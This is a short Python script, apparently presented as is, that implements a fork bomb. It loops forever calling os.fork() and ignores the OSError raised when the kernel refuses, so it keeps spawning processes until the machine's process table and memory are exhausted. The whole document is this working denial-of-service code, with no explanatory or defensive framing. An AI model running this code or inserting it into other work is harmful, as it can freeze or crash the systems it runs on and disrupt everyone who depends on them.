# Forks without end, whatever the kernel answers.
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
